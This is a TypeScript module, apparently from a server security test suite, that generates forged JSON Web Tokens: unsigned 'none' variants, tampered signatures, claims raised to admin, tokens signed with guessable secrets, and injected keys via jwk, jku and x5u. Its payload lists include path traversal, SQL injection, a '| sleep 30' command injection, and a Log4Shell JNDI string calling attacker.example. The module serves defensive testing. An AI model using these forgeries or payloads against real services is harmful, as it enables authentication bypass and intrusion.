import { createHmac, generateKeyPairSync, sign } from 'node:crypto'
import { FROM_SERVER, readJson } from 'maxine-protocol'
import { NotApplicable } from '../../breach.ts'
import type { Frame } from '../../shape.ts'

/** A token that must not be taken, and what was done to it. */
export type Forgery = readonly [what: string, token: string]

/** A JSON Web Token (RFC 7519) in its parts. */
interface Jwt {
  readonly header: Frame
  readonly claims: Frame
  /** The first two parts as they came. */
  readonly signed: string
  readonly signature: string
}

/** By RFC 8725, 3.1 none of them may be taken for an algorithm, however they are written. */
const NO_ALGORITHM = ['none', 'None', 'NONE', 'nOnE', '']

/** What tutorials sign with, and what is left where a setting is missing. */
const GUESSES = ['', 'secret', 'password', 'changeme', 'maxine', 'your-256-bit-secret', 'undefined']

/** Names of keys by which servers were made to read what they should not. */
const KEY_IDS = [
  '../../../../../../dev/null',
  '/dev/null',
  "x' UNION SELECT '' -- ",
  'https://attacker.example/key',
  '| sleep 30',
  'a'.repeat(4_096),
]

/** Claims of a good token that says it is signed by nothing. */
export function unsigned(token: string): Forgery[] {
  const { header, claims, signature } = readJwt(token)
  return NO_ALGORITHM.flatMap((alg): Forgery[] => {
    const start = `${write({ ...header, alg })}.${write(claims)}`
    const what = `alg ${JSON.stringify(alg)}`
    return [
      [`${what} and no signature`, `${start}.`],
      [`${what} and two parts`, start],
      [`${what} and the signature of another token`, `${start}.${signature}`],
    ]
  })
}

/** A good token whose signature is another. */
export function badlySigned(token: string, other: string): Forgery[] {
  const { signed, signature } = readJwt(token)
  const another = signature.startsWith('A') ? 'B' : 'A'
  return [
    ['its first character changed', `${signed}.${another}${signature.slice(1)}`],
    ['its end cut off', `${signed}.${signature.slice(0, -6)}`],
    ['only its beginning', `${signed}.${signature.slice(0, 2)}`],
    ['something behind it', `${signed}.${signature}AAAA`],
    ['none at all', `${signed}.`],
    ['zeros', `${signed}.${'A'.repeat(signature.length)}`],
    ['that of another token', `${signed}.${readJwt(other).signature}`],
  ]
}

/** A good token that says more than it was signed for. */
export function promoted(token: string): Forgery[] {
  const { header, claims, signature } = readJwt(token)
  const wishes: readonly Frame[] = [
    { role: 'admin' },
    { roles: ['admin'] },
    { sub: 'admin' },
    { exp: 4_102_444_800 },
    { iat: 1 },
  ]
  return wishes
    .map((wish): Forgery => {
      const forgery = `${write(header)}.${write({ ...claims, ...wish })}.${signature}`
      return [`with ${JSON.stringify(wish)}`, forgery]
    })
    .filter(([, forgery]) => forgery !== token)
}

/** Signed in earnest, with keys that anybody can guess. */
export function guessed(token: string): Forgery[] {
  const { header, claims } = readJwt(token)
  return GUESSES.map((key) => [
    `the key ${JSON.stringify(key)}`,
    hmac({ ...header, alg: 'HS256' }, claims, key),
  ])
}

/** The key's name leads to something whose content is known, or to nothing: an empty key. */
export function namedKeys(token: string): Forgery[] {
  const { header, claims } = readJwt(token)
  return KEY_IDS.flatMap((kid) => [
    [`kid ${kid.slice(0, 40)}`, hmac({ ...header, alg: 'HS256', kid }, claims, '')],
  ])
}

/** Signed in earnest, by a key that comes along in the header or lies at this address. */
export function broughtKeys(token: string, address: string): Forgery[] {
  const { header, claims } = readJwt(token)
  const { privateKey, jwk } = ownKey()
  const by = (more: Frame): string => {
    const start = `${write({ ...header, alg: 'ES256', kid: KEY_ID, ...more })}.${write(claims)}`
    const signature = sign('sha256', Buffer.from(start), {
      key: privateKey,
      dsaEncoding: 'ieee-p1363',
    })
    return `${start}.${signature.toString('base64url')}`
  }
  return [
    ['the key in jwk', by({ jwk })],
    ['the address of a key in jku', by({ jku: address })],
    ['the address of a certificate in x5u', by({ x5u: address })],
    ['a certificate in x5c', by({ x5c: ['MIIB'] })],
    ['an address for kid', by({ kid: address })],
  ]
}

/** The header asks for what no server may do, or calls the token something else. */
export function oddHeaders(token: string): Forgery[] {
  const { header, claims, signature } = readJwt(token)
  const odd: readonly Frame[] = [
    { crit: ['b64'], b64: false },
    { crit: ['made-up'], 'made-up': 1 },
    { crit: [] },
    { typ: 'JWE', enc: 'A256GCM', alg: 'dir' },
    { cty: 'JWT' },
    { zip: 'DEF' },
    { alg: ['HS256'] },
    { alg: 256 },
    { alg: 'HS1' },
  ]
  return odd.map((more) => [
    `the header ${JSON.stringify(more)}`,
    `${write({ ...header, ...more })}.${write(claims)}.${signature}`,
  ])
}

/** No JSON Web Token that could be signed by anybody. */
export const NO_TOKENS: readonly Forgery[] = [
  'x',
  ' ',
  '.',
  '..',
  '...',
  'a.b.c',
  'null',
  'undefined',
  'Bearer',
  'true',
  '[object Object]',
  '\u0000',
  '../../etc/passwd',
  "' OR '1'='1",
  '${jndi:ldap://attacker.example/a}',
  '\ud83d\udd11'.repeat(40),
  `${write('text')}.${write('text')}.AAAA`,
  `${write({ alg: 'HS256' })}.${write([])}.AAAA`,
  `${write({ alg: 'HS256' })}..AAAA`,
  `${'e30.'.repeat(4)}e30`,
].map((token) => [JSON.stringify(token), token])

/** The public half of the key of {@link broughtKeys}, as a server of keys gives it. */
export function ownKeySet(): Frame {
  return { keys: [ownKey().jwk] }
}

const KEY_ID = 'brought'

/** Made when it is first needed, and once: it takes a moment. */
function ownKey() {
  key ??= makeKey()
  return key
}

let key: ReturnType<typeof makeKey> | undefined

function makeKey() {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const jwk: Frame = { ...publicKey.export({ format: 'jwk' }), kid: KEY_ID, alg: 'ES256' }
  return { privateKey, jwk }
}

/** Whether it can be forged as what it is; a token of another kind can only be changed. */
export function isJwt(token: string): boolean {
  return findJwt(token) !== undefined
}

/** Skips the case where the tokens of this server are of another kind. */
function readJwt(token: string): Jwt {
  const jwt = findJwt(token)
  if (!jwt) throw new NotApplicable('the tokens of this server are no JSON Web Tokens')
  return jwt
}

function findJwt(token: string): Jwt | undefined {
  const [header = '', claims = '', signature = '', ...more] = token.split('.')
  const parts = [header, claims].map((part) =>
    readJson(Buffer.from(part, 'base64url').toString('utf8'), FROM_SERVER),
  )
  const [first, second] = parts.map((read) => (read.ok ? (Object(read.message) as Frame) : {}))
  if (typeof first?.['alg'] !== 'string' || second === undefined || more.length > 0) {
    return undefined
  }
  return { header: first, claims: second, signed: `${header}.${claims}`, signature }
}

function hmac(header: Frame, claims: Frame, secret: string): string {
  const start = `${write(header)}.${write(claims)}`
  return `${start}.${createHmac('sha256', secret).update(start).digest('base64url')}`
}

function write(part: unknown): string {
  return Buffer.from(JSON.stringify(part)).toString('base64url')
}
